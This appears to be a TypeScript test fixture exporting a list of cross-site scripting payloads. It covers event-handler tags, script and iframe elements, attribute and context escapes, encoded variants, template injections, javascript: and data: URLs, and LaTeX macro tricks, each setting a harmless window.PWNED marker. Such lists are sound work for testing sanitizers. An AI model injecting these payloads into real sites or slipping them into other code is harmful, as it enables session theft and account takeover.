// Text that runs where it is taken for markup, for script or for an address: each sets `window.PWNED` if it does.

const DEED = 'window.PWNED=1';

const handlers = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'], ['marquee', 'onstart'], ['iframe', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'], ['script src=x', 'onerror'], ['p tabindex=1 autofocus', 'onfocus'],
  ['x style="animation:spin 1s"', 'onanimationstart'], ['x style="transition:all 1s"', 'ontransitionend'],
].map(([tag, handler]) => `<${tag} ${handler}=${DEED}>`); // prettier-ignore

const elements = [
  `<script>${DEED}</script>`, `<script type=module>${DEED}</script>`, `<script src="data:text/javascript,${DEED}"></script>`,
  `<iframe srcdoc="<script>parent.PWNED=1</script>"></iframe>`, `<iframe src="javascript:parent.PWNED=1"></iframe>`,
  `<object data="javascript:${DEED}"></object>`, `<embed src="javascript:${DEED}">`, `<a href="javascript:${DEED}" autofocus>x</a>`,
  `<form action="javascript:${DEED}"><button autofocus>x</button></form>`, `<button formaction="javascript:${DEED}">x</button>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${DEED}>`, `<svg><script>${DEED}</script></svg>`,
  `<svg><animate onbegin=${DEED} attributeName=x dur=1s>`, `<svg><set onbegin=${DEED} attributeName=x>`, `<svg><a xlink:href="javascript:${DEED}">x</a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${DEED}>#x">`, `<template><img src=x onerror=${DEED}></template>`,
  `<base href="javascript:/a/-${DEED}///">`, `<meta http-equiv=refresh content="0;url=javascript:${DEED}">`, `<isindex action="javascript:${DEED}">`,
  `<style>@import "javascript:${DEED}";</style>`, `<div style="background:url(javascript:${DEED})">`, `<link rel=import href="data:text/html,<script>${DEED}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`, `<select><noembed></select><script>${DEED}</script>`,
  `<table background="javascript:${DEED}">`, `<frameset onload=${DEED}>`, `<portal src="javascript:${DEED}">`, `<xmp><img src=x onerror=${DEED}></xmp>`,
  `<slot name=x onslotchange=${DEED}></slot><b slot=x></b>`,
]; // prettier-ignore

const escapes = [
  `"><img src=x onerror=${DEED}>`, `'><img src=x onerror=${DEED}>`, `\`><img src=x onerror=${DEED}>`, `" autofocus onfocus=${DEED} x="`, `' autofocus onfocus=${DEED} x='`,
  `--><img src=x onerror=${DEED}>`, `]]><img src=x onerror=${DEED}>`, `</title><img src=x onerror=${DEED}>`, `</textarea><img src=x onerror=${DEED}>`,
  `</style><img src=x onerror=${DEED}>`, `</script><script>${DEED}</script>`, `</option></select><img src=x onerror=${DEED}>`, `"-${DEED}-"`, `';${DEED}//`, `\`;${DEED}//`,
  `\\";${DEED}//`, `\${${DEED}}`, `{{constructor.constructor('${DEED}')()}}`, `#{${DEED}}`, `<%= ${DEED} %>`, `*/${DEED}/*`, `\n${DEED}\n`, `\u2028${DEED}//`, `\0<img src=x onerror=${DEED}>`,
  `\uFEFF<img src=x onerror=${DEED}>`, `<\0img src=x onerror=${DEED}>`, `<img\u000Bsrc=x onerror=${DEED}>`, `<img/src=x/onerror=${DEED}>`, `<IMG SRC=x ONERROR=${DEED}>`, `<<img src=x onerror=${DEED}>`,
  `%3Cimg src=x onerror=${DEED}%3E`, `%253Cimg src=x onerror=${DEED}%253E`, `&lt;img src=x onerror=${DEED}&gt;`, `&#60;img src=x onerror=${DEED}&#62;`, `\\u003cimg src=x onerror=${DEED}\\u003e`, `\uFF1Cimg src=x onerror=${DEED}\uFF1E`,
]; // prettier-ignore

const addresses = [
  `javascript:${DEED}`, `JaVaScRiPt:${DEED}`, `java\tscript:${DEED}`, `\u0001javascript:${DEED}`, `data:text/html,<script>${DEED}</script>`, `vbscript:${DEED}`,
  `//x/${DEED}`, `blob:null/${DEED}`, `\\\\x\\${DEED}`, `\\href{javascript:${DEED}}{x}`, `\\htmlData{x=${DEED}}{x}`, `\\includegraphics{javascript:${DEED}}`, `$$\\def\\x{\\x}\\x$$`, `$\\unicode{<img src=x onerror=${DEED}>}$`,
]; // prettier-ignore

export const XSS_PAYLOADS: readonly string[] = [...handlers, ...elements, ...escapes, ...addresses];
